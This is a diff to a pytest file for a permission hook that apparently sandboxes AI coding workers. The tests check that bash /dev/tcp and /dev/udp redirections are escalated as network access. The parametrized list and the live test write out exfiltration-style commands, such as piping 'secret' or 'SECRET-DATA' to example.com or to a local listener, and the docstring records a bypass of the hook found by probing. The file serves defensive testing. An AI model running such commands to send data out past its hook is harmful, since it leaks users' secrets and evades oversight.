@@ -5,10 +5,15 @@ reached the project's server and were asked as "network access to <unknown host>
 while ``socat - UNIX-CONNECT:`` to the same socket was refused as a write into
 ``.exomonad/``. Each client that names a socket now writes that path: the state dir is
 refused, any other socket outside the worktree is asked with its path named.
+
+A redirection to bash's ``/dev/tcp/HOST/PORT`` (or ``/dev/udp``) is network access to
+HOST whichever way it points: ``cat </dev/tcp/HOST/80`` was allowed as a read of a file,
+and a socket opened with ``<`` writes as well as it reads.
 """
 
 from __future__ import annotations
 
+import socket
 import subprocess
 
 import pytest
@@ -81,3 +86,42 @@ def test_a_worker_cannot_reach_the_server_through_its_socket(live: Live) -> None
         answer = live.hook(attempt, token=token, cwd=worktree)
         assert answer["permissionDecision"] == "deny", (attempt, answer)
         assert "server.sock" in answer["permissionDecisionReason"]
+
+
+BASH_SOCKETS = [
+    ("cat </dev/tcp/example.com/80", "example.com"),
+    ("exec 3</dev/tcp/Example.com/80; echo secret >&3", "example.com"),  # "<" sends too
+    ("cat </dev/udp/example.com/53", "example.com"),
+    ("echo hi >/dev/tcp/example.com/80", "example.com"),
+    ("exec 3<>/dev/tcp/example.com/80", "example.com"),
+    ("cat 0</dev/tcp/127.0.0.1/8765", "127.0.0.1"),
+    ("cat </dev/tcp/$H/80", "<unknown host>"),
+]
+
+
+@pytest.mark.parametrize(("command", "host"), BASH_SOCKETS)
+def test_a_redirection_to_bashs_dev_tcp_is_network_access(command: str, host: str) -> None:
+    """Found probing: ``cat </dev/tcp/HOST/80`` was allowed as a read of a file."""
+    verdict = bash(command)
+    assert isinstance(verdict, Escalate), verdict
+    assert f"network access to {host}" in verdict.reason
+
+
+def test_a_worker_cannot_send_data_through_dev_tcp_unasked(live: Live) -> None:
+    """The real effect first: from the worktree, a socket bash opened "for reading"
+    carries data out to a listener. Then the hook client does not allow it."""
+    token, worktree = live.spawn_worker()
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(30)
+        command = (f"exec 3</dev/tcp/127.0.0.1/{server.getsockname()[1]}; "
+                   "echo SECRET-DATA >&3")  # fmt: skip
+        sent = subprocess.run(["bash", "-c", command], cwd=worktree, capture_output=True,
+                              text=True, timeout=30, check=False)  # fmt: skip
+        assert sent.returncode == 0, sent.stderr
+        peer, _ = server.accept()
+        with peer:
+            peer.settimeout(30)
+            assert peer.recv(100) == b"SECRET-DATA\n"
+        answer = live.hook(command, token=token, cwd=worktree)
+    assert answer["permissionDecision"] != "allow", answer
+    assert "network access to 127.0.0.1" in answer["permissionDecisionReason"]
